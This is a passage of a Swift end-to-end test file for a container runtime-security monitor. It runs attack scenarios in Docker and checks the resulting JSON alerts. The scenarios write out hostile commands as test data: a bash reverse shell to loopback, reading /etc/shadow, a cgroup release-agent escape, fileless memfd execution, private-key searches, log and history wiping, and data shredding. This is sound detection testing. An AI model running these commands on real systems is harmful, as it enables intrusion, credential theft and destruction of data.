import Foundation
import Testing

/// End-to-end tests of live monitoring: the real probes in the real kernel, real Docker containers
/// (the busybox image script/test builds), the built sentinel binary, its JSON alerts on stdout.
/// They need root, BTF and a running dockerd: where those are missing they are skipped, except in
/// CI (the CI variable set), where a missing part is a failure.
enum LiveEnvironment {
    static let image = "sentinel/busybox:1"
    static let isCI = ProcessInfo.processInfo.environment["CI"].map { !$0.isEmpty } ?? false

    /// What is missing for the live tests, or nil.
    static let problem: String? = {
        if geteuid() != 0 { return "the live tests need root" }
        if !FileManager.default.fileExists(atPath: "/sys/kernel/btf/vmlinux") { return "this kernel has no BTF" }
        guard let inspect = try? command(["docker", "image", "inspect", image]), inspect.status == 0 else {
            return "Docker does not answer or has no \(image) (script/test starts dockerd and builds it)"
        }
        return nil
    }()

    static let shouldRun = problem == nil || isCI
}

/// Runs a command to completion; its output as text.
@discardableResult
func command(_ arguments: [String]) throws -> (status: Int32, stdout: String) {
    let process = Process()
    process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
    process.arguments = arguments
    let stdout = Pipe()
    process.standardOutput = stdout
    process.standardError = FileHandle.nullDevice
    try process.run()
    let output = stdout.fileHandleForReading.readDataToEndOfFile()
    while process.isRunning { usleep(5_000) }
    return (process.terminationStatus, String(decoding: output, as: UTF8.self))
}

/// sentinel watching live, its JSON alerts going to a file the test reads as they come.
final class LiveSentinel {
    /// Fields added to every alert, so that the tests can check identity and ancestry.
    static let appended = "id=%container.id image=%container.image process=%proc.name parent=%proc.pname ancestors=%proc.apid[1],%proc.apid[2]"

    let process = Process()
    let stdoutPath: String
    let stderrPath: String

    init(_ extraArguments: [String] = [], command: [String] = ["--rules", "rules/", "-o", "json", "--append-output", LiveSentinel.appended]) throws {
        let directory = NSTemporaryDirectory() + "sentinel-live-" + UUID().uuidString
        try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
        stdoutPath = directory + "/alerts.jsonl"
        stderrPath = directory + "/stderr.txt"
        _ = FileManager.default.createFile(atPath: stdoutPath, contents: nil)
        _ = FileManager.default.createFile(atPath: stderrPath, contents: nil)
        process.executableURL = URL(fileURLWithPath: sentinelBinary)
        process.arguments = command + ["--stats-interval", "1"] + extraArguments
        process.currentDirectoryURL = URL(fileURLWithPath: packageRoot)
        process.standardOutput = FileHandle(forWritingAtPath: stdoutPath)
        process.standardError = FileHandle(forWritingAtPath: stderrPath)
        try process.run()
        let ready = waitUntil(seconds: 30) { self.stderr.contains("watching") || !self.process.isRunning }
        try #require(ready && process.isRunning, "sentinel did not start watching: \(stderr)")
    }

    var stderr: String { (try? String(contentsOfFile: stderrPath, encoding: .utf8)) ?? "" }

    /// The alerts so far, each a line of JSON as sentinel wrote it.
    var alertLines: [String] {
        let text = (try? String(contentsOfFile: stdoutPath, encoding: .utf8)) ?? ""
        return text.split(separator: "\n").map(String.init)
    }

    var alerts: [[String: Any]] {
        alertLines.compactMap { line in
            (try? JSONSerialization.jsonObject(with: Data(line.utf8))) as? [String: Any]
        }
    }

    /// The fields of the first alert of `rule` in the container `containerID` (12 digits, or
    /// "host") that arrives within `seconds`.
    func alert(_ rule: String, container containerID: String, within seconds: Double = 2) -> [String: Any]? {
        var found: [String: Any]?
        _ = waitUntil(seconds: seconds) {
            found = self.alerts.first { alert in
                let fields = alert["output_fields"] as? [String: Any] ?? [:]
                return alert["rule"] as? String == rule && fields["container.id"] as? String == containerID
            }
            return found != nil
        }
        return found?["output_fields"] as? [String: Any]
    }

    /// SIGINT, as a user's Ctrl-C; the exit status.
    func stop() -> Int32 {
        kill(process.processIdentifier, SIGINT)
        _ = waitUntil(seconds: 30) { !self.process.isRunning }
        if process.isRunning { kill(process.processIdentifier, SIGKILL) }
        while process.isRunning { usleep(10_000) }
        return process.terminationStatus
    }

    deinit {
        if process.isRunning { kill(process.processIdentifier, SIGKILL) }
    }
}

func waitUntil(seconds: Double, _ condition: () -> Bool) -> Bool {
    let deadline = Date().addingTimeInterval(seconds)
    while Date() < deadline {
        if condition() { return true }
        usleep(20_000)
    }
    return condition()
}

/// A container the test runs, detached, until its command ends.
struct TestContainer {
    let name: String
    /// The 12-digit id, as alerts show it.
    let id: String
    /// The host pid of its entrypoint, read while it runs.
    let entrypointPID: Int

    static func run(_ name: String, image: String = LiveEnvironment.image, network: String = "none", options: [String] = [],
                    _ shellCommand: String) throws -> TestContainer {
        try command(["docker", "rm", "-f", name])
        let started = try command(["docker", "run", "-d", "--network", network, "--name", name] + options + [image, "/bin/sh", "-c", shellCommand])
        try #require(started.status == 0, "docker run failed for \(name)")
        let id = String(started.stdout.trimmingCharacters(in: .whitespacesAndNewlines).prefix(12))
        let pid = try command(["docker", "inspect", "-f", "{{.State.Pid}}", name]).stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        try command(["docker", "wait", name])
        return TestContainer(name: name, id: id, entrypointPID: Int(pid) ?? -1)
    }

    func remove() { _ = try? command(["docker", "rm", "-f", name]) }
}

/// One thing an attacker does in a container, and what the stock rules must say of it.
struct AttackScenario: CustomTestStringConvertible, Sendable {
    let label: String
    /// Run by the entrypoint shell, which then sleeps so that its pid can be read.
    let shellCommand: String
    let rules: [String]
    let processName: String
    let parentName: String
    /// How many generations above the alerting process the entrypoint is.
    let entrypointGeneration: Int
    /// Where the attack runs: the busybox test image, or the Debian one where it needs Python.
    var image = LiveEnvironment.image
    /// More of `docker run`'s options (--privileged).
    var options: [String] = []

    var testDescription: String { label }
}

@Suite(.serialized, .enabled(if: LiveEnvironment.shouldRun))
struct LiveTests {
    static let scenarios = [
        AttackScenario(label: "a shell", shellCommand: "/bin/sh -c true; sleep 1",
                       rules: ["Shell spawned in container"], processName: "sh", parentName: "sh", entrypointGeneration: 1),
        AttackScenario(label: "nc listening and connecting on loopback",
                       shellCommand: "/bin/nc -l -p 4444 >/dev/null & sleep 0.3; echo hi | /bin/nc 127.0.0.1 4444; wait; sleep 1",
                       rules: ["Network tool in container", "Unexpected listening socket in container"], processName: "nc", parentName: "sh", entrypointGeneration: 1),
        AttackScenario(label: "reading /etc/shadow", shellCommand: "/bin/cat /etc/shadow >/dev/null; sleep 1",
                       rules: ["Sensitive file read in container"], processName: "cat", parentName: "sh", entrypointGeneration: 1),
        AttackScenario(label: "writing below /etc", shellCommand: "/bin/sh -c 'echo owned > /etc/owned'; sleep 1",
                       rules: ["Write below /etc in container"], processName: "sh", parentName: "sh", entrypointGeneration: 1),
        AttackScenario(label: "running a binary copied to /tmp", shellCommand: "/bin/cp /bin/busybox /tmp/payload; /tmp/payload; sleep 1",
                       rules: ["Executable run from a temporary directory", "Dropped binary executed"], processName: "payload", parentName: "sh", entrypointGeneration: 1),
        // Run by a relative name: the rules read the path the kernel opened, not the name given.
        AttackScenario(label: "a relative exec in /tmp", shellCommand: "/bin/cp /bin/busybox /tmp/kworker; cd /tmp && ./kworker; sleep 1",
                       rules: ["Executable run from a temporary directory", "Dropped binary executed"], processName: "kworker", parentName: "sh", entrypointGeneration: 1),
        // Renamed after it was written: the path written is not the one run; the layer tells.
        AttackScenario(label: "a dropped binary renamed before it runs", shellCommand: "/bin/cp /bin/busybox /tmp/stage; /bin/mv /tmp/stage /bin/kupdate; /bin/kupdate; sleep 1",
                       rules: ["Dropped binary executed"], processName: "kupdate", parentName: "sh", entrypointGeneration: 1),
        AttackScenario(label: "a package manager", shellCommand: "apt-get update; sleep 1",
                       rules: ["Package manager in container"], processName: "apt-get", parentName: "sh", entrypointGeneration: 1),
        AttackScenario(label: "a search for private keys", shellCommand: "/bin/find / -name id_rsa 2>/dev/null; sleep 1",
                       rules: ["Search for private keys or cloud credentials in container"], processName: "find", parentName: "sh", entrypointGeneration: 1),
        // cgroup v1's release agent, from a container given CAP_SYS_ADMIN. (A --privileged container
        // cannot start on the test machine, whose bounding set lacks CAP_SYS_RESOURCE: the rule on
        // debugfs in one is proved by its fixtures only.)
        AttackScenario(label: "a cgroup release agent written",
                       shellCommand: "mkdir /tmp/cg && mount -t cgroup -o none,name=escape cgroup /tmp/cg && /bin/sh -c 'echo /tmp/x > /tmp/cg/release_agent'; umount /tmp/cg; sleep 1",
                       rules: ["Cgroup release agent written in container"], processName: "sh", parentName: "sh",
                       entrypointGeneration: 1, image: debian, options: ["--cap-add", "SYS_ADMIN"]),
        AttackScenario(label: "a reconnaissance command", shellCommand: "/bin/id; sleep 1",
                       rules: ["User reconnaissance in container"], processName: "id", parentName: "sh", entrypointGeneration: 1),
        AttackScenario(label: "an exec from a service's process tree", shellCommand: "/usr/sbin/nginx /bin/true; sleep 1",
                       rules: ["Shell spawned by a service"], processName: "sh", parentName: "nginx", entrypointGeneration: 2),
        AttackScenario(label: "clearing a log", shellCommand: "mkdir -p /var/log; /bin/sh -c ': > /var/log/auth.log'; sleep 1",
                       rules: ["Log file cleared in container"], processName: "sh", parentName: "sh", entrypointGeneration: 1),
        AttackScenario(label: "removing the shell history", shellCommand: "echo id >> /root/.ash_history; /bin/rm /root/.ash_history; sleep 1",
                       rules: ["Shell history removed in container"], processName: "rm", parentName: "sh", entrypointGeneration: 1),
        AttackScenario(label: "linking to /etc/shadow", shellCommand: "cd /tmp && /bin/ln -s /etc/shadow s; sleep 1",
                       rules: ["Link to a sensitive file in container"], processName: "ln", parentName: "sh", entrypointGeneration: 1),
        AttackScenario(label: "shredding data", shellCommand: "echo secret > /tmp/data; /bin/shred -u /tmp/data; sleep 1",
                       rules: ["Data shredder run in container"], processName: "shred", parentName: "sh", entrypointGeneration: 1),
        AttackScenario(label: "deleting data in bulk",
                       shellCommand: "mkdir /data && cd /data && i=0; while [ $i -lt 1200 ]; do : > f$i; i=$((i+1)); done; cd /; /bin/rm -rf /data; sleep 1",
                       rules: ["Bulk file deletion in container"], processName: "rm", parentName: "sh", entrypointGeneration: 1),
        AttackScenario(label: "setting the setuid bit", shellCommand: "/bin/cp /bin/busybox /tmp/b; /bin/chmod u+s /tmp/b; sleep 1",
                       rules: ["Setuid or setgid bit set in container"], processName: "chmod", parentName: "sh", entrypointGeneration: 1),
        // System calls a program makes itself (through Python's ctypes), refused or not.
        AttackScenario(label: "ptrace on a child", shellCommand: python("""
            import os, time
            child = os.fork()
            if child == 0:
                time.sleep(3); os._exit(0)
            libc.ptrace(16, child, 0, 0); os.kill(child, 9)
            """), rules: ["Ptrace attached to a process in container"], processName: "python3", parentName: "sh", entrypointGeneration: 1, image: debian),
        AttackScenario(label: "ptrace traceme", shellCommand: python("libc.ptrace(0, 0, 0, 0)"),
                       rules: ["Ptrace anti-debugging in container"], processName: "python3", parentName: "sh", entrypointGeneration: 1, image: debian),
        AttackScenario(label: "a kernel module load", shellCommand: python("libc.syscall(313, -1, b'', 0)"),
                       rules: ["Kernel module load attempted from container"], processName: "python3", parentName: "sh", entrypointGeneration: 1, image: debian),
        AttackScenario(label: "unshare and mount", shellCommand: python("libc.unshare(0x40000000); libc.mount(b'none', b'/mnt', b'tmpfs', 0, None)"),
                       rules: ["Namespace change in container", "Mount system call in container"], processName: "python3", parentName: "sh",
                       entrypointGeneration: 1, image: debian),
        AttackScenario(label: "a bpf program load", shellCommand: python("libc.syscall(321, 5, 0, 0)"),
                       rules: ["BPF program loaded from container"], processName: "python3", parentName: "sh", entrypointGeneration: 1, image: debian),
        AttackScenario(label: "a packet socket", shellCommand: python("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)"),
                       rules: ["Packet socket opened in container"], processName: "python3", parentName: "sh", entrypointGeneration: 1, image: debian),
        // Code copied into a memfd and run from it by execveat(fd, "", AT_EMPTY_PATH).
        AttackScenario(label: "fileless execution from a memfd", shellCommand: python("""
            import os
            fd = os.memfd_create("payload")
            os.write(fd, open("/usr/bin/true", "rb").read())
            argv = (ctypes.c_char_p * 2)(b"kworker", None)
            libc.syscall(322, fd, b"", argv, (ctypes.c_char_p * 1)(None), 0x1000)
            """), rules: ["Fileless execution in container"], processName: "memfd:payload", parentName: "sh", entrypointGeneration: 1, image: debian),
        // bash's own reverse shell: its child's redirections dup the connected socket onto 0, 1 and
        // 2, then exec an interactive bash (a listener on the container's loopback stands for the attacker).
        AttackScenario(label: "a reverse shell", shellCommand: """
            python3 -c 'import socket
            s = socket.socket(); s.bind(("127.0.0.1", 4444)); s.listen(1); c, _ = s.accept(); c.close()' & sleep 0.5
            bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'; wait; sleep 1
            """, rules: ["Standard streams redirected to a network connection in container"], processName: "bash", parentName: "bash",
                       entrypointGeneration: 2, image: debian),
    ]

    static let debian = "sentinel/debian:bookworm"

    /// A Python program run by a shell, with `libc` loaded, then a second's wait.
    static func python(_ program: String) -> String {
        let script = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n" + program
        return "python3 -c '" + script.replacingOccurrences(of: "'", with: "'\\''") + "'; sleep 1"
    }

    @Test(arguments: scenarios)
    func aContainerAttackRaisesItsAlert(_ scenario: AttackScenario) throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let sentinel = try LiveSentinel()
        let name = "sentinel-live-\(scenario.label.filter(\.isLetter).prefix(24).lowercased())"
        let container = try TestContainer.run(name, image: scenario.image, options: scenario.options, scenario.shellCommand)
        defer { container.remove() }
        for rule in scenario.rules {
            let fields = try #require(sentinel.alert(rule, container: container.id), "no \"\(rule)\" within 2 s of the container's end; alerts: \(sentinel.alerts.map { $0["output"] ?? "" })")
            #expect(fields["container.name"] as? String == name)
            #expect(fields["container.image"] as? String == scenario.image)
            #expect(fields["proc.name"] as? String == scenario.processName, "\(rule): \(fields)")
            #expect(fields["proc.pname"] as? String == scenario.parentName, "\(rule): \(fields)")
            #expect(fields["proc.apid[\(scenario.entrypointGeneration)]"] as? Int == container.entrypointPID,
                    "\(rule): the entrypoint (pid \(container.entrypointPID)) is the ancestor \(scenario.entrypointGeneration) up: \(fields)")
        }
        #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
    }

    /// `cd /etc && cat shadow` opens "shadow": the kernel sends the directory it started from, and
    /// the rule on /etc/shadow still sees it.
    @Test func aRelativeOpenIsSeenWhole() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let sentinel = try LiveSentinel(command: ["--rules", "rules/", "-o", "json", "--append-output", LiveSentinel.appended + " raw=%fd.nameraw"])
        let container = try TestContainer.run("sentinel-live-relative", "cd /etc && /bin/cat shadow >/dev/null; cd /tmp && /bin/cat ../etc/./shadow >/dev/null; sleep 1")
        defer { container.remove() }
        _ = sentinel.alert("Sensitive file read in container", container: container.id)
        let reads = sentinel.alerts.filter { $0["rule"] as? String == "Sensitive file read in container" }
            .compactMap { $0["output_fields"] as? [String: Any] }.filter { $0["container.id"] as? String == container.id }
        #expect(reads.map { $0["fd.name"] as? String } == ["/etc/shadow", "/etc/shadow"], "\(reads)")
        #expect(reads.map { $0["fd.nameraw"] as? String } == ["shadow", "../etc/./shadow"], "\(reads)")
        #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
    }

    /// An open that creates a file reports the mode it asked for: an executable made in place
    /// (0755, or an unnamed O_TMPFILE of 0700) is Falco's evt.is_open_exec; a 0644 file, or an
    /// open that creates nothing, is not.
    @Test func anOpenCreatingAnExecutableIsSeen() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let rules = try temporaryFile("open-exec.json", """
            {"rules": [{"rule": "Executable created", "condition": "evt.type in (open, openat, openat2) and evt.is_open_exec = true and container.id != host",
                        "output": "created %fd.name mode=%evt.arg.mode id=%container.id", "priority": "NOTICE"}]}
            """)
        let sentinel = try LiveSentinel(["--rules", rules], command: ["-o", "json"])
        let container = try TestContainer.run("sentinel-live-openexec", image: Self.debian, Self.python("""
            import os
            os.open("/tmp/tool", os.O_CREAT | os.O_WRONLY, 0o755)
            os.open("/tmp/data", os.O_CREAT | os.O_WRONLY, 0o644)
            os.open("/tmp", os.O_TMPFILE | os.O_WRONLY, 0o700)
            os.open("/tmp/tool", os.O_WRONLY, 0o755)
            """))
        defer { container.remove() }
        _ = sentinel.alert("Executable created", container: container.id, within: 3)
        _ = waitUntil(seconds: 1) { false }
        let created = sentinel.alerts.compactMap { $0["output_fields"] as? [String: Any] }.filter { $0["container.id"] as? String == container.id }
        #expect(created.map { $0["fd.name"] as? String } == ["/tmp/tool", "/tmp"], "\(created)")
        #expect(created.map { $0["evt.arg.mode"] as? String } == ["S_IRUSR|S_IWUSR|S_IXUSR|S_IRGRP|S_IXGRP|S_IROTH|S_IXOTH", "S_IRUSR|S_IWUSR|S_IXUSR"],
                "\(created)")
        #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
    }

    /// Captured calls carry their arguments by Falco's names, paths made absolute against the
    /// working directory or the directory descriptor, and their results.
    @Test func capturedCallsCarryTheirArguments() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let sentinel = try LiveSentinel(["--rules", "Tests/sentinelTests/Fixtures/live/captured-calls.json"],
                                        command: ["-o", "json", "--append-output", "id=%container.id"])
        let container = try TestContainer.run("sentinel-live-calls",
            "cd /tmp && echo x > a && mv a b && ln -s /etc/shadow s && mkdir d && cd d && ln -s ../b ../c && rm ../b ../s ../c; unlink /tmp/none 2>/dev/null; sleep 1")
        defer { container.remove() }
        _ = sentinel.alert("File removed", container: container.id, within: 3)
        let outputs = sentinel.alerts.filter { ($0["output_fields"] as? [String: Any])?["container.id"] as? String == container.id }
            .compactMap { alert -> String? in (alert["output"] as? String).map { String($0.split(separator: ": ", maxSplits: 1)[1]) } }
        for expected in ["Notice renamed /tmp/a to /tmp/b (given as a, b) res=SUCCESS",
                         "Notice symlink /tmp/s -> /etc/shadow (given as s)",
                         "Notice symlink /tmp/c -> ../b (given as ../c)",
                         "Notice removed path=/tmp/b res=SUCCESS",
                         "Notice removed path=/tmp/none res=ENOENT"] {
            #expect(outputs.contains { $0.hasPrefix(expected) }, "\(expected)\n\(outputs.joined(separator: "\n"))")
        }
        let counts = Self.recordCounts(sentinel.stderr)
        #expect((counts["call"]?.produced ?? 0) >= 5, "the capture program sent the calls: \(sentinel.stderr.suffix(400))")
        #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
    }

    /// What the kernel finds open at a call's descriptor is what /proc says is open there: the
    /// program prints /proc/self/fd/N (and its working directory) after each call, and the alerts
    /// must say the same. (Python's os.dup is fcntl(F_DUPFD_CLOEXEC); os.dup2 is dup2.) The
    /// descriptors are moved to 100 and above first, where Python's own start-up never is.
    @Test func descriptorsAreDescribedAsProcShowsThem() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let sentinel = try LiveSentinel(["--rules", "Tests/sentinelTests/Fixtures/live/descriptors.json"], command: ["-o", "json"])
        let program = """
            import os, socket, fcntl
            def high(fd): return fcntl.fcntl(fd, fcntl.F_DUPFD, 100)
            def show(call, fd): print(call, fd, os.readlink(f"/proc/self/fd/{fd}"), flush=True)
            file = high(os.open("/etc/hostname", os.O_RDONLY))
            copy = os.dup(file); show("fcntl", file)
            os.dup2(file, 120); show("dup2", file)
            os.makedirs("/tmp/work", exist_ok=True)
            directory = high(os.open("/tmp/work", os.O_RDONLY | os.O_DIRECTORY))
            os.fchdir(directory); show("fchdir", directory); print("cwd", os.getcwd(), flush=True)
            scratch = high(os.open("notes", os.O_RDWR | os.O_CREAT, 0o600))
            os.fchmod(scratch, 0o640); show("fchmod", scratch)
            server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(1)
            client = socket.create_connection(server.getsockname()); peer, _ = server.accept()
            sock = high(client.fileno()); os.dup(sock); show("fcntl", sock)
            print("ports", client.getsockname()[1], server.getsockname()[1], flush=True)
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.bind(("127.0.0.1", 0)); port = udp.getsockname()[1]
            udp.connect(("127.0.0.1", port)); udp.send(b"x"); udp.recv(1)
            print("udp", udp.fileno(), port, flush=True)
            loose = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); loose.bind(("127.0.0.1", 0)); own = loose.getsockname()
            loose.sendto(b"y", own); loose.recvfrom(1)
            loose.sendmsg([b"z"], [], 0, own); loose.recvmsg(1)
            print("unconnected", loose.fileno(), own[1], flush=True)
            read, write = os.pipe(); read = high(read); os.dup(read); show("fcntl", read)
            os.close(copy); os.close(120)
            os.dup2(copy, 5)
            """
        let container = try TestContainer.run("sentinel-live-descriptors", image: Self.debian,
                                              "python3 -c '\(program.replacingOccurrences(of: "'", with: "'\\''"))'; sleep 1")
        defer { container.remove() }
        _ = sentinel.alert("Call on a descriptor", container: container.id, within: 3)
        let said = try command(["docker", "logs", container.name]).stdout.split(separator: "\n").map { $0.split(separator: " ").map(String.init) }
        let outputs = sentinel.alerts.filter { ($0["output_fields"] as? [String: Any])?["container.id"] as? String == container.id }
            .compactMap { $0["output_fields"] as? [String: Any] }
        func described(_ call: String, _ fd: String) -> [String: Any]? {
            outputs.first { $0["evt.type"] as? String == call && "\($0["fd.num"] ?? "")" == fd && ($0["evt.rawres"] as? Int ?? -1) >= 0 }
        }
        let shown = said.filter { $0.count == 3 && ["fcntl", "dup2", "fchdir", "fchmod"].contains($0[0]) }
        try #require(shown.count == 6, "the program printed \(said)")
        let ports = try #require(said.first { $0.first == "ports" })
        for line in shown {
            let fields = try #require(described(line[0], line[1]), "no \(line[0]) of fd \(line[1]) in \(outputs)")
            let proc = line[2]
            if proc.hasPrefix("socket:") {
                #expect(fields["fd.type"] as? String == "ipv4" && fields["fd.typechar"] as? String == "4", "\(fields)")
                #expect(fields["fd.sockfamily"] as? String == "ip" && fields["fd.connected"] as? Bool == true, "\(fields)")
                #expect("\(fields["fd.lport"] ?? "")" == ports[1] && "\(fields["fd.rport"] ?? "")" == ports[2], "\(fields) \(ports)")
                #expect(fields["fd.name"] as? String == "127.0.0.1:\(ports[1])->127.0.0.1:\(ports[2])", "\(fields)")
            } else if proc.hasPrefix("pipe:") {
                #expect(fields["fd.type"] as? String == "pipe" && fields["fd.typechar"] as? String == "p", "\(fields)")
            } else {
                #expect(fields["fd.name"] as? String == proc, "\(line): \(fields)")
                let directory = line[0] == "fchdir"
                #expect(fields["fd.type"] as? String == (directory ? "directory" : "file"), "\(fields)")
            }
        }
        #expect(said.contains(["cwd", "/tmp/work"]))
        // A UDP socket: bound (its local end), then sending to and receiving from itself.
        let udp = try #require(said.first { $0.first == "udp" })
        for call in ["bind", "sendto", "recvfrom"] {
            let fields = try #require(outputs.first { $0["evt.type"] as? String == call && "\($0["fd.num"] ?? "")" == udp[1] }, "no \(call) in \(outputs)")
            #expect(fields["fd.type"] as? String == "ipv4" && fields["fd.l4proto"] as? String == "udp", "\(fields)")
            #expect("\(fields["fd.lport"] ?? "")" == udp[2], "\(fields)")
            if call != "bind" { #expect("\(fields["fd.rport"] ?? "")" == udp[2] && fields["evt.rawres"] as? Int == 1, "\(fields)") }
        }
        // Unconnected: the peer is the address sendto named and recvfrom filled in, or the one a
        // msghdr's msg_name held.
        let loose = try #require(said.first { $0.first == "unconnected" })
        for call in ["sendto", "recvfrom", "sendmsg", "recvmsg"] {
            let fields = try #require(outputs.first { $0["evt.type"] as? String == call && "\($0["fd.num"] ?? "")" == loose[1] }, "no \(call) in \(outputs)")
            #expect("\(fields["fd.rport"] ?? "")" == loose[2] && fields["fd.connected"] as? Bool == false, "\(fields)")
            #expect(fields[call.hasSuffix("msg") ? "evt.arg.msg" : "evt.arg.addr"] as? String == "127.0.0.1:\(loose[2])", "\(fields)")
        }
        // A descriptor closed before the call: the call fails, and nothing is described.
        let closed = try #require(outputs.first { $0["evt.type"] as? String == "dup2" && ($0["evt.rawres"] as? Int ?? 0) < 0 }, "the refused dup2")
        #expect(closed["fd.type"] is NSNull && closed["fd.num"] as? Int ?? -1 < 100, "\(closed)")
        #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
    }

    /// The login uid and the capabilities an exec gave are what the process's /proc says.
    @Test func credentialsAreWhatProcShows() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let sentinel = try LiveSentinel(["--rules", "Tests/sentinelTests/Fixtures/live/credentials.json"], command: ["-o", "json"])
        let container = try TestContainer.run("sentinel-live-credentials", options: ["--cap-drop", "ALL", "--cap-add", "NET_RAW", "--cap-add", "CHOWN"],
                                              "/bin/cat /proc/self/loginuid; echo; /bin/cat /proc/self/status /proc/self/stat; sleep 1")
        defer { container.remove() }
        let fields = try #require(sentinel.alert("Credentials at exec", container: container.id, within: 3), "\(sentinel.alerts)")
        let said = try command(["docker", "logs", container.name]).stdout
        let loginUID = try #require(said.split(separator: "\n").first.flatMap { UInt32($0) }, "\(said)")
        #expect(fields["user.loginuid"] as? Int == Int(Int32(bitPattern: loginUID)), "\(fields) \(said)")
        #expect(fields["thread.cap_effective"] as? String == "CAP_CHOWN CAP_NET_RAW", "\(fields)")
        #expect(fields["thread.cap_permitted"] as? String == "CAP_CHOWN CAP_NET_RAW", "\(fields)")
        #expect(said.contains("CapEff:\t0000000000002001"), "\(said)")
        // /proc/self/stat: pid (comm) state ppid pgrp session..., numbered in the container.
        let stat = try #require(said.split(separator: "\n").last { $0.contains("(cat)") }, "\(said)")
        let after = stat[stat.range(of: ") ")!.upperBound...].split(separator: " ")
        let (group, session) = (Int(after[2])!, Int(after[3])!)
        #expect(fields["proc.vpgid"] as? Int == (group == 0 ? nil : group), "\(fields) \(stat)")
        #expect(fields["proc.sid"] as? Int == (session == 0 ? nil : session), "\(fields) \(stat)")
        #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
    }

    /// Where an executable lies, as the kernel's overlay says: the image's (lower) layers, or the
    /// container's writable (upper) layer, whether written there or copied up by a change. The
    /// inode number and times are the ones stat shows inside the container.
    @Test func anExecutableInTheWritableLayerIsToldFromTheImages() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let sentinel = try LiveSentinel(["--rules", "Tests/sentinelTests/Fixtures/live/executables.json"], command: ["-o", "json"])
        let container = try TestContainer.run("sentinel-live-layers", """
            stat -c 'probe-image %i %Z %Y' /bin/busybox; /bin/busybox true probe-image
            cp /bin/busybox /tmp/dropped; stat -c 'probe-dropped %i %Z %Y' /tmp/dropped; /tmp/dropped true probe-dropped
            touch -d '2001-02-03 04:05:06' /bin/busybox; stat -c 'probe-touched %i %Z %Y' /bin/busybox; /bin/busybox true probe-touched
            sleep 1
            """)
        defer { container.remove() }
        _ = waitUntil(seconds: 3) { sentinel.alerts.count >= 3 }
        let said = try command(["docker", "logs", container.name]).stdout
        // name → inode, ctime and mtime in seconds
        let stats = Dictionary(said.split(separator: "\n").compactMap { line -> (String, [Int])? in
            let words = line.split(separator: " ")
            let numbers = words.dropFirst().compactMap { Int($0) }
            return words.count == 4 && numbers.count == 3 ? (String(words[0]), numbers) : nil
        }, uniquingKeysWith: { first, _ in first })
        let events = sentinel.alerts.compactMap { $0["output_fields"] as? [String: Any] }.filter { $0["container.id"] as? String == container.id }
        func probe(_ name: String) throws -> [String: Any] {
            try #require(events.first { $0["proc.args"] as? String == "true \(name)" }, "no \(name) in \(events)")
        }
        let image = try probe("probe-image"), dropped = try probe("probe-dropped"), touched = try probe("probe-touched")
        #expect(image["proc.is_exe_upper_layer"] as? Bool == false && image["proc.is_exe_written"] as? Bool == false, "\(image)")
        #expect(dropped["proc.is_exe_upper_layer"] as? Bool == true && dropped["proc.is_exe_written"] as? Bool == true, "\(dropped)")
        // Changed, not written: only the layer tells.
        #expect(touched["proc.is_exe_upper_layer"] as? Bool == true && touched["proc.is_exe_written"] as? Bool == false, "\(touched)")
        for (name, fields) in [("probe-image", image), ("probe-dropped", dropped), ("probe-touched", touched)] {
            let stat = try #require(stats[name], "\(said)")
            #expect(fields["proc.exe_ino"] as? Int == stat[0], "\(name): \(fields) \(said)")
            #expect((fields["proc.exe_ino.ctime"] as? Int).map { $0 / 1_000_000_000 } == stat[1], "\(name): \(fields) \(said)")
            #expect((fields["proc.exe_ino.mtime"] as? Int).map { $0 / 1_000_000_000 } == stat[2], "\(name): \(fields) \(said)")
        }
        #expect(stats["probe-touched"]?[2] == 981_173_106, "touch -d set the mtime: \(said)")
        // Written a moment before it ran.
        let sinceChange = try #require(dropped["proc.exe_ino.ctime_duration_proc_start"] as? Int, "\(dropped)")
        #expect(sinceChange > -1_000_000_000 && sinceChange < 2_000_000_000, "\(dropped)")
        #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
    }

    /// User and group names come from the container's own /etc/passwd and /etc/group, as its `id`
    /// prints them.
    @Test func namesAreTheContainersOwn() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let sentinel = try LiveSentinel(["--rules", "Tests/sentinelTests/Fixtures/live/credentials.json"], command: ["-o", "json"])
        let container = try TestContainer.run("sentinel-live-names", image: Self.debian, options: ["--user", "33:33"], "id; sleep 1")
        defer { container.remove() }
        let fields = try #require(sentinel.alert("Names at exec", container: container.id, within: 3), "\(sentinel.alerts)")
        let said = try command(["docker", "logs", container.name]).stdout
        #expect(said.hasPrefix("uid=33(www-data) gid=33(www-data)"), "\(said)")
        #expect(fields["user.name"] as? String == "www-data" && fields["group.name"] as? String == "www-data", "\(fields)")
        #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
    }

    /// A capset and a setuid change what the process holds from its next event on: the calls
    /// themselves show who made them.
    @Test func credentialsFollowCapsetAndSetuid() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let sentinel = try LiveSentinel(["--rules", "Tests/sentinelTests/Fixtures/live/credentials.json"], command: ["-o", "json"])
